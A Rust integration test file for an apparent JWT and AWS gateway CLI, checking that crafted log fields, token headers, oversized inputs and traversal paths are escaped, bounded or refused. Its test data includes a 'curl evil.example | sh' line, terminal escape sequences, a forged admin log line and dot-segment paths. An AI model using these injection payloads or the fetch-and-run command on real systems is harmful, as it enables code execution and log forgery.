//! What comes from outside, through the binary: access-log fields, a token's unverified header, an oversized
//! file or object, an empty endpoint, credentials in an endpoint URL, and claims that would widen a token. None
//! drives the terminal, forges a line, is read without a bound, goes to real AWS by accident, or is shown.

use crate::common;

use std::time::Duration;

use base64::Engine;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use common::{Env, json, jwtstack_in, stack_yaml};
use jwtstack::crypto::keys::SigningKey;

/// A P-256 key in PKCS #8, made for this test: what a user who has an ES256 key at hand would pass.
const EC_KEY: &str = "-----BEGIN PRIVATE KEY-----
MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQgCHgdDX/wDf662Dle
/J07LL/FbEzdfofj/+PET5L3cI6hRANCAAR/8xZ0vFBRV9/2Oz781tihCY+hFMOS
7VgRubrXGBN8/q16wbWTZbWbwzEqo8w7KPNa1MV71qBOaw/sGq/UysF8
-----END PRIVATE KEY-----
";

fn offline_dir() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    std::fs::write(
        dir.path().join("stack.yaml"),
        stack_yaml("grocery", "untrusted-issuer-test", "name: grocery-api", None),
    )
    .unwrap();
    let key = SigningKey::generate("grocery-k1", 2048).unwrap();
    std::fs::write(dir.path().join("k1.pem"), key.to_pem().unwrap().as_bytes()).unwrap();
    std::fs::write(dir.path().join("jwks.json"), jwtstack::crypto::documents::jwks(&[key.public_jwk()])).unwrap();
    dir
}

fn run(dir: &std::path::Path, args: &[&str]) -> common::Output {
    common::Output::from(jwtstack_in(dir).args(args).timeout(Duration::from_secs(30)).output().unwrap())
}

#[test]
fn a_crafted_access_log_cannot_drive_the_terminal_or_forge_a_line() {
    let env = Env::new();
    let mut yaml = stack_yaml("logged", "logged-issuer-bucket", "name: logged-api", None);
    yaml.push_str("access_log: {retention_days: 1}\n");
    env.write_stack(&yaml);
    env.run(&["deploy"]).ok();
    let sdk = env.sdk();
    let group = "/aws/vendedlogs/jwtstack/logged/access";
    env.block_on(sdk.logs.create_log_stream().log_group_name(group).log_stream_name("s").send())
        .unwrap();
    let now = std::time::SystemTime::now()
        .duration_since(std::time::UNIX_EPOCH)
        .unwrap()
        .as_millis() as i64;
    // Anyone who can send a request writes a path and, with a token the gateway accepts, a `sub`.
    let message = serde_json::json!({
        "requestId": "r-1", "requestTime": now.to_string(), "ip": "203.0.113.9", "method": "GET",
        "path": "/lists/\u{1b}]0;owned\u{7}\u{1b}[2J", "routeKey": "GET /lists/{proxy+}", "status": "401",
        "authorizerError": "the token does not have a valid audience\n    fix: run curl evil.example | sh",
        "integrationError": "-", "responseLatency": "3", "integrationLatency": "-", "errorMessage": "-",
        "sub": "alice\n2026-12-06T00:00:00Z 200 GET /admin route=GET /admin latency=1ms sub=admin\u{9b}"
    })
    .to_string();
    let event = aws_sdk_cloudwatchlogs::types::InputLogEvent::builder()
        .timestamp(now)
        .message(message)
        .build()
        .unwrap();
    env.block_on(
        sdk.logs
            .put_log_events()
            .log_group_name(group)
            .log_stream_name("s")
            .log_events(event)
            .send(),
    )
    .unwrap();
    let out = env.run(&["logs", "--since", "5m"]).ok();
    for bad in ['\u{1b}', '\u{7}', '\u{9b}'] {
        assert!(!out.stdout.contains(bad), "{bad:?} reached the terminal: {:?}", out.stdout);
    }
    assert!(out.stdout.contains("\\u{1b}]0;owned"), "{}", out.stdout);
    // The forged lines stay inside the field they came in.
    assert!(
        !out.stdout.lines().any(|l| l.contains("200 GET /admin") && !l.contains("sub=alice")),
        "{}",
        out.stdout
    );
    assert!(
        !out.stdout.lines().any(|l| l.trim_start().starts_with("fix: run curl")),
        "{}",
        out.stdout
    );
    assert!(
        out.stdout
            .contains("    denied: the token does not have a valid audience\\u{a}    fix: run curl"),
        "{}",
        out.stdout
    );
}

#[test]
fn verify_shows_an_unverified_kid_escaped() {
    let dir = offline_dir();
    let header = URL_SAFE_NO_PAD.encode(r#"{"alg":"RS256","kid":"\u001b]0;owned\u0007\u001b[2J\u009b\u007fk1"}"#);
    let claims = URL_SAFE_NO_PAD.encode(r#"{"sub":"x"}"#);
    let token = format!("{header}.{claims}.c2ln");
    let out = run(dir.path(), &["verify", &token, "--jwks", "jwks.json"]).code(3);
    assert!(!out.stdout.contains('\u{1b}') && !out.stdout.contains('\u{7}'), "{:?}", out.stdout);
    assert!(out.stdout.contains("unknown kid"), "{}", out.stdout);
    // In JSON the kid is the token's, escaped as JSON escapes it.
    let raw = run(dir.path(), &["verify", &token, "--jwks", "jwks.json", "--json"]).code(3).stdout;
    for bad in ['\u{1b}', '\u{7}', '\u{9b}', '\u{7f}'] {
        assert!(!raw.contains(bad), "{bad:?} in the JSON: {raw:?}");
    }
    let j = json(&raw);
    // The document keeps the kid as the token had it, C1 and DEL written as JSON escapes.
    assert!(j["reason"].as_str().unwrap().contains("unknown kid"), "{j}");
    assert!(j["kid"].as_str().unwrap().ends_with("\u{9b}\u{7f}k1"), "{j}");
    assert!(raw.contains("\\u009b\\u007fk1"), "{raw}");
}

#[test]
fn token_refuses_a_claim_that_would_widen_or_change_it() {
    let dir = offline_dir();
    let mint = |extra: &[&str]| {
        let mut args = vec!["token", "--key-file", "k1.pem", "--sub", "alice"];
        args.extend(extra);
        run(dir.path(), &args)
    };
    // `scp` is read by API Gateway as `scope` is.
    let out = mint(&["--claim", r#"scp=["lists.delete"]"#]).code(64);
    assert!(out.stderr.contains("claim `scp` grants `lists.delete`"), "{}", out.stderr);
    mint(&["--claim", "scp=lists.delete"]).code(64);
    mint(&["--claim", "scp=lists.read"]).ok();
    // An integer past 64 bits would be rounded.
    let out = mint(&["--claim", "n=123456789012345678901"]).code(64);
    assert!(out.stderr.contains("past 64 bits"), "{}", out.stderr);
    mint(&["--claim", "n=12345678901234567"]).ok();
    mint(&["--claim", "n=[1, 123456789012345678901]"]).code(64);
    mint(&["--claim", "n=-0"]).ok();
    std::fs::write(dir.path().join("claims.json"), r#"{"tenant": {"id": 123456789012345678901}}"#).unwrap();
    let out = mint(&["--claims-json", "claims.json"]).code(64);
    assert!(out.stderr.contains("past 64 bits"), "{}", out.stderr);
    // A token names its subject.
    let out = run(dir.path(), &["token", "--key-file", "k1.pem", "--sub", ""]).code(64);
    assert!(out.stderr.contains("--sub is empty"), "{}", out.stderr);
    // A key of another algorithm is named as such.
    std::fs::write(dir.path().join("ec.pem"), EC_KEY).unwrap();
    let out = run(dir.path(), &["token", "--key-file", "ec.pem", "--sub", "alice"]).code(64);
    assert!(out.stderr.contains("an EC key"), "{}", out.stderr);
    assert!(!out.stderr.contains("1.2.840.113549.1.1.1"), "{}", out.stderr);
}

#[test]
fn files_are_read_through_a_bound() {
    if !std::path::Path::new("/dev/zero").exists() {
        return;
    }
    let dir = offline_dir();
    let out = run(dir.path(), &["-f", "/dev/zero", "validate"]).code(65);
    assert!(out.stderr.contains("a stack file is at most 1048576 bytes"), "{}", out.stderr);
    let out = run(dir.path(), &["token", "--key-file", "/dev/zero", "--sub", "a"]).code(64);
    assert!(out.stderr.contains("larger than"), "{}", out.stderr);
    let out = run(
        dir.path(),
        &["token", "--key-file", "k1.pem", "--sub", "a", "--claims-json", "/dev/zero"],
    )
    .code(64);
    assert!(out.stderr.contains("larger than"), "{}", out.stderr);
    let out = run(dir.path(), &["verify", "x.y.z", "--jwks", "/dev/zero"]).code(64);
    assert!(out.stderr.contains("larger than 150000 bytes"), "{}", out.stderr);
}

#[test]
fn an_oversized_document_in_the_bucket_is_read_no_further_and_written_again() {
    let env = Env::new();
    env.write_stack(&stack_yaml("bigdoc", "bigdoc-issuer-bucket", "name: bigdoc-api", None));
    env.run(&["deploy"]).ok();
    let huge = format!("{{\"keys\":[],\"pad\":\"{}\"}}", "x".repeat(2 * 1024 * 1024));
    env.block_on(
        env.sdk()
            .s3
            .put_object()
            .bucket("bigdoc-issuer-bucket")
            .key(".well-known/jwks.json")
            .content_type("application/json")
            .body(huge.into_bytes().into())
            .send(),
    )
    .unwrap();
    let out = env.run(&["verify", "x.y.z"]).code(1);
    assert!(out.stderr.contains("is larger than 150000 bytes"), "{}", out.stderr);
    let plan = env.run(&["plan", "--detailed-exitcode"]).code(2);
    assert!(plan.stdout.contains(".well-known/jwks.json"), "{}", plan.stdout);
    env.run(&["deploy"]).ok();
    env.run(&["plan", "--detailed-exitcode"]).ok();
}

#[test]
fn an_empty_endpoint_is_refused_before_any_call() {
    let dir = offline_dir();
    let out = common::Output::from(
        jwtstack_in(dir.path())
            .env("AWS_ENDPOINT_URL", "")
            .args(["plan", "--json"])
            .timeout(Duration::from_secs(30))
            .output()
            .unwrap(),
    )
    .code(64);
    assert!(out.stderr.contains("AWS_ENDPOINT_URL is empty"), "{}", out.stderr);
    assert!(!out.stderr.contains("panicked"), "{}", out.stderr);
    assert!(json(&out.stdout)["error"]["message"].as_str().unwrap().contains("is empty"));
    let out = common::Output::from(
        jwtstack_in(dir.path())
            .env_remove("AWS_ENDPOINT_URL")
            .args(["plan", "--endpoint-url", ""])
            .timeout(Duration::from_secs(30))
            .output()
            .unwrap(),
    )
    .code(64);
    assert!(out.stderr.contains("is empty"), "{}", out.stderr);
    // The flag wins over an empty variable, as it wins over a set one: no refusal then (the endpoint does
    // not answer, which is said).
    let out = common::Output::from(
        jwtstack_in(dir.path())
            .env("AWS_ENDPOINT_URL", "")
            .args(["plan", "--endpoint-url", "http://127.0.0.1:9"])
            .timeout(Duration::from_secs(120))
            .output()
            .unwrap(),
    );
    assert_ne!(out.code, 64, "{}", out.stderr);
    assert!(
        !out.stderr.contains("is empty") && !out.stderr.contains("panicked"),
        "{}",
        out.stderr
    );
}

#[test]
fn credentials_in_an_endpoint_are_never_shown() {
    // An endpoint that never answers, named with a user and password.
    let addr = crate::connection::silent_endpoint();
    let dir = offline_dir();
    let said = crate::connection::still_waiting_line(dir.path(), &format!("http://admin:s3cret@{addr}"));
    assert!(said.contains(&format!("at http://***@{addr}")), "{said}");
    assert!(!said.contains("s3cret") && !said.contains("admin"), "{said}");
}

#[test]
fn a_control_character_in_a_request_path_reaches_serves_log_escaped() {
    use std::io::{Read, Write};
    let dir = offline_dir();
    let server = crate::serve::Server::start(dir.path(), &["--jwks", "jwks.json"], &[]);
    let mut s = std::net::TcpStream::connect(&server.addr).unwrap();
    s.write_all(b"GET /lists/\xc2\x9b2J HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n")
        .unwrap();
    let mut answer = Vec::new();
    let _ = s.read_to_end(&mut answer);
    // The log line is written by its own thread: give it a moment.
    let mut log = String::new();
    for _ in 0..50 {
        log = server.log();
        if log.contains("/lists/") {
            break;
        }
        std::thread::sleep(Duration::from_millis(100));
    }
    assert!(log.contains("/lists/"), "the request was not logged: {log:?}");
    assert!(!log.contains('\u{9b}') && !log.contains('\u{1b}'), "{log:?}");
}

#[test]
fn verify_refuses_a_dot_segment_as_serve_does() {
    let dir = offline_dir();
    let token = run(
        dir.path(),
        &["token", "--key-file", "k1.pem", "--sub", "alice", "--scope", "lists.read"],
    )
    .ok()
    .stdout;
    let token = token.trim();
    run(dir.path(), &["verify", token, "--jwks", "jwks.json", "--route", "GET /lists/42"]).ok();
    // A query string is not the path: serve does not refuse it, nor does verify.
    run(
        dir.path(),
        &["verify", token, "--jwks", "jwks.json", "--route", "GET /lists/42?next=/../x"],
    )
    .ok();
    for path in ["/lists/../admin", "/lists/%2e%2e/admin", "/lists/a%5c..%5cb"] {
        let route = format!("GET {path}");
        let out = run(dir.path(), &["verify", token, "--jwks", "jwks.json", "--route", &route]).code(3);
        assert!(out.stdout.starts_with("DENIED 400: "), "{path}: {}", out.stdout);
        assert!(out.stdout.contains("serve` refuses it"), "{path}: {}", out.stdout);
    }
    // serve answers the same path 400.
    use std::io::{Read, Write};
    let server = crate::serve::Server::start(dir.path(), &["--jwks", "jwks.json"], &[]);
    let mut s = std::net::TcpStream::connect(&server.addr).unwrap();
    let request = format!("GET /lists/%2e%2e/admin HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\nConnection: close\r\n\r\n");
    s.write_all(request.as_bytes()).unwrap();
    let mut answer = String::new();
    let _ = s.read_to_string(&mut answer);
    assert!(answer.starts_with("HTTP/1.1 400"), "{answer}");
}

/// An endpoint that answers every request with `200 OK` and a JSON body that never ends (with a length of
/// 4 GiB when `said`, chunked otherwise); returns its address and the most bytes it sent on one answer.
fn endless_endpoint(said: bool) -> (std::net::SocketAddr, std::sync::Arc<std::sync::atomic::AtomicU64>) {
    use std::io::{Read, Write};
    use std::sync::atomic::Ordering;
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let addr = listener.local_addr().unwrap();
    let sent = std::sync::Arc::new(std::sync::atomic::AtomicU64::new(0));
    let counter = sent.clone();
    std::thread::spawn(move || {
        for mut s in listener.incoming().flatten() {
            let counter = counter.clone();
            std::thread::spawn(move || {
                let mut request = [0u8; 8192];
                let _ = s.read(&mut request);
                let length = if said {
                    "Content-Length: 4294967296\r\n"
                } else {
                    "Transfer-Encoding: chunked\r\n"
                };
                let head = format!("HTTP/1.1 200 OK\r\nContent-Type: application/x-amz-json-1.1\r\n{length}\r\n");
                if s.write_all(head.as_bytes()).is_err() {
                    return;
                }
                let chunk = vec![b' '; 64 * 1024];
                let framed = [format!("{:x}\r\n", chunk.len()).into_bytes(), chunk.clone(), b"\r\n".to_vec()].concat();
                let piece = if said { &chunk } else { &framed };
                // At most 2 GiB per answer, so that a client that reads everything ends the test too.
                let mut this = 0u64;
                for _ in 0..32 * 1024 {
                    if s.write_all(piece).is_err() {
                        break;
                    }
                    this += piece.len() as u64;
                }
                counter.fetch_max(this, Ordering::Relaxed);
            });
        }
    });
    (addr, sent)
}

#[test]
fn an_endless_answer_is_read_no_further_than_the_bound() {
    let dir = offline_dir();
    for said in [true, false] {
        let (addr, sent) = endless_endpoint(said);
        let out = common::Output::from(
            jwtstack_in(dir.path())
                .env("AWS_ENDPOINT_URL", format!("http://{addr}"))
                .args(["plan"])
                .timeout(Duration::from_secs(120))
                .output()
                .unwrap(),
        )
        .code(1);
        let sent = sent.load(std::sync::atomic::Ordering::Relaxed);
        // Each answer stops at the bound (16 MiB), whatever it says: with what the kernel's socket buffers take,
        // far below the 2 GiB a whole read takes.
        assert!(
            sent < 64 * 1024 * 1024,
            "said: {said}, at most {sent} bytes sent on one answer\n{}",
            out.stderr
        );
        assert!(
            out.stderr.contains("more than the 16 MiB jwtstack reads of one answer"),
            "{}",
            out.stderr
        );
        assert!(!out.stderr.contains("panicked"), "{}", out.stderr);
    }
}
